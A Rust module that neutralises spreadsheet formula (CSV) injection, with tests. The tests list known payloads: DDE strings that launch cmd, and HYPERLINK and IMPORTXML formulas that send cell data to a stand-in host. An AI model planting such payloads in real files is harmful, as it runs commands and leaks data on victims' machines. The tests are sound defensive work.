//! Text that a spreadsheet cannot take for a formula.

/// What a spreadsheet may begin a formula with, full-width signs among them; blanks before it do not hinder one.
const LIVE: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|'];

/// The text, with an apostrophe before it when a spreadsheet could take it for a formula.
pub fn inert(text: &str) -> String {
    let begins = text.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}', '"', '\0']);
    match begins.starts_with(LIVE) || text.starts_with(['\t', '\r', '\n']) {
        true => format!("'{text}"),
        false => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What people have put into files to be run by those who open them.
    pub const PAYLOADS: [&str; 22] = [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"see\")",
        "=IMPORTXML(\"http://example.invalid\",\"//a\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "\"=1+1\"",
        "\u{200b}=1+1",
        "|calc",
        "\0=1+1",
    ];

    /// A cell that a spreadsheet might run.
    pub fn live(cell: &str) -> bool {
        !cell.starts_with('\'')
            && cell
                .trim_start_matches(|c: char| c.is_whitespace() || "\u{feff}\u{200b}\"\0".contains(c))
                .starts_with(|c| "=+-@＝＋－＠|".contains(c))
    }

    #[test]
    fn no_payload_is_live() {
        for payload in PAYLOADS {
            assert!(live(payload), "{payload:?} is no payload");
            assert!(!live(&inert(payload)), "{payload:?}");
        }
        for plain in ["Aisha", "43.5%", "IND-FD-01", "", "2026-03-31", "three of nine"] {
            assert_eq!(inert(plain), plain);
        }
        // The broken twin: looking at the first sign alone.
        let twin =
            |text: &str| if text.starts_with(['=', '+', '-', '@']) { format!("'{text}") } else { text.to_owned() };
        let through = PAYLOADS.iter().filter(|payload| live(&twin(payload))).count();
        println!("{} payloads, 0 live; {through} by the first sign alone", PAYLOADS.len());
        assert!(through > 5);
    }
}
